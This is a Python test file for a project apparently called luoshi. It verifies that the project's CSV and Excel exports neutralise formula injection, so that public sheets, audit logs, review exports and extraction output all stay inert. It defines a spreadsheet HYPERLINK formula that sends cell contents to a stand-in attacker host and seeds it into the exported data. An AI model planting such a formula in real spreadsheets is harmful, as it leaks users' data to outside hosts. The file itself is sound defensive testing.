"""Every export is safe in Excel: imported text like ``=HYPERLINK(...)`` never becomes a live formula.

Each export is made from a real store (or real writer) and read back as a spreadsheet would:
CSV with the csv module, xlsx with openpyxl (a formula cell has ``data_type == "f"``).
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import get_args

import pytest
from openpyxl import load_workbook

from luoshi.extraction.model import Comparator
from luoshi.formats.cells import FORMULA_LEADS, csv_cell, is_formula_like, safe_text, unguard, xlsx_cell
from luoshi.settings import Settings
from luoshi.store import open_store

from .conftest import csrf_of
from .seed import PASSWORD, seed

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _assert_csv_safe(text: str) -> int:
    """Every cell of a CSV: none starts with a formula lead; returns how many carried EVIL."""
    carried = 0
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
        for cell in row:
            assert not is_formula_like(cell) or _is_number(cell), cell
            carried += EVIL in cell
    return carried


def _assert_xlsx_safe(data: bytes) -> int:
    wb = load_workbook(io.BytesIO(data))
    carried = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not is_formula_like(cell.value), cell.value
                    carried += EVIL in cell.value
    return carried


@pytest.mark.parametrize("lead", FORMULA_LEADS)
def test_shared_cell_writer_neutralises_every_lead(lead: str) -> None:
    text = lead + "1+1"
    assert safe_text(text) == "'" + text
    assert csv_cell(text) == "'" + text and xlsx_cell(text) == "'" + text
    assert csv_cell(-3.5) == -3.5 and xlsx_cell(7) == 7 and csv_cell(None) == ""
    assert safe_text("新建5G基站300座") == "新建5G基站300座"


@pytest.mark.parametrize("symbol", get_args(Comparator))
def test_a_lone_comparator_symbol_passes_unguarded(symbol: str) -> None:
    """``=`` of the 比较符 column has nothing after its lead to run: written as it is, not ``'=``."""
    assert safe_text(symbol) == csv_cell(symbol) == xlsx_cell(symbol) == symbol
    assert unguard(symbol) == symbol


@pytest.mark.parametrize("text", [EVIL, "==", "= 1", "=1", "=\t", "'=", ">=1+1"])
def test_anything_more_than_the_symbol_is_still_judged_as_before(text: str) -> None:
    guarded = text.startswith(FORMULA_LEADS)
    assert safe_text(text) == ("'" + text if guarded else text)
    assert xlsx_cell(text) == safe_text(text)


def test_extract_csv_and_xlsx_write_the_comparator_as_is(tmp_path: Path) -> None:
    from luoshi.extraction import extract_text
    from luoshi.formats.csv_fmt import render_csv
    from luoshi.formats.rows import COLUMNS
    from luoshi.formats.xlsx_fmt import write_xlsx

    plan = extract_text("今年新建学校3所，新建5G基站300座以上。", source=EVIL + ".txt")
    assert {t.comparator for t in plan.targets} >= {"=", ">="}
    rows = list(csv.DictReader(io.StringIO(render_csv([plan]))))
    assert [r["comparator"] for r in rows][:2] == ["=", ">="]
    assert _assert_csv_safe(render_csv([plan])) > 0  # EVIL, the file name: still guarded
    write_xlsx([plan], tmp_path / "x.xlsx")
    ws = load_workbook(tmp_path / "x.xlsx")["items"]
    cell = ws.cell(row=2, column=COLUMNS.index("comparator") + 1)
    assert cell.value == "=" and cell.data_type == "s"  # text, not an (empty) formula
    assert _assert_xlsx_safe((tmp_path / "x.xlsx").read_bytes()) > 0


@pytest.fixture()
def evil_app(tmp_path: Path):  # noqa: ANN201
    from luoshi.web.app import create_app

    settings = Settings(
        database_url=f"sqlite:///{tmp_path / 'x.db'}",
        upload_dir=str(tmp_path / "up"),
        secret_key="k",
        today="2024-07-10",
        login_max_failures=100,
    )
    store = open_store(settings)
    with store.session() as session:
        seed(session, title_prefix=EVIL)
    app = create_app(settings, store=store)
    yield app
    store.dispose()


def _admin(app):  # noqa: ANN001, ANN202
    from fastapi.testclient import TestClient

    client = TestClient(app)
    token = csrf_of(client.get("/login").text)
    r = client.post(
        "/login",
        data={"username": "admin", "password": PASSWORD, "csrf_token": token},
        follow_redirects=False,
    )
    assert r.status_code == 303
    return client


def test_public_csv_sheet_and_audit_exports_are_safe(evil_app) -> None:  # noqa: ANN001
    admin = _admin(evil_app)
    public = admin.get("/public/张店区/2024.csv")
    assert public.status_code == 200
    assert _assert_csv_safe(public.text) > 0  # the text is there, inert
    sheet = admin.get("/sheet.xlsx")
    assert sheet.status_code == 200
    assert _assert_xlsx_safe(sheet.content) > 0
    # an audit row whose actor and object id carry the text (e.g. a CLI actor name)
    from luoshi.store.audit import record_audit

    with evil_app.state.store.session() as session:
        record_audit(session, EVIL, "update", "target", EVIL, None, {"title": "x"})
    audit = admin.get("/admin/audit.csv")
    assert audit.status_code == 200 and _assert_csv_safe(audit.text) == 2


def test_review_exports_are_safe(tmp_path: Path) -> None:
    from luoshi.review.export import COLUMNS, to_csv, write_xlsx

    row = {k: EVIL for k, _h in COLUMNS} | {"no": 1, "ratio": -0.5}
    assert _assert_csv_safe(to_csv([row])) == len(COLUMNS) - 2
    buf = io.BytesIO()
    write_xlsx([row], buf, title=EVIL)
    assert _assert_xlsx_safe(buf.getvalue()) == len(COLUMNS) - 1  # the title too


def test_extract_csv_and_xlsx_are_safe(tmp_path: Path) -> None:
    from luoshi.extraction import extract_text
    from luoshi.formats.csv_fmt import render_csv
    from luoshi.formats.xlsx_fmt import write_xlsx

    plan = extract_text(EVIL + "。今年新建5G基站300座以上。", source=EVIL + ".txt")
    assert plan.targets
    assert _assert_csv_safe(render_csv([plan])) > 0
    out = tmp_path / "x.xlsx"
    write_xlsx([plan], out)
    assert _assert_xlsx_safe(out.read_bytes()) > 0


def test_guarded_department_names_read_back_unchanged(tmp_path: Path) -> None:
    """A department whose name the export guarded comes back as itself, not as a new ``'=…`` one."""
    from sqlalchemy import select

    from luoshi.store.models import Department, Target
    from luoshi.tracking.sheet import export_sheet, import_sheet

    settings = Settings(
        database_url=f"sqlite:///{tmp_path / 'r.db'}",
        upload_dir=str(tmp_path / "up"),
        secret_key="k",
        today="2024-07-10",
    )
    store = open_store(settings)
    try:
        with store.session() as s:
            ids = seed(s)
            t = s.get(Target, ids.public_target)
            t.lead_department.name = "-临时专班"
        out = tmp_path / "sheet.xlsx"
        with store.session() as s:
            export_sheet(s, settings, out)
        wb = load_workbook(out)
        assert any(c.value == "'-临时专班" for row in wb.active.iter_rows() for c in row)
        with store.session() as s:
            result = import_sheet(s, out, filename="sheet.xlsx")
            names = set(s.scalars(select(Department.name)))
        assert result.assignments == 0 and "'-临时专班" not in names and "-临时专班" in names
    finally:
        store.dispose()
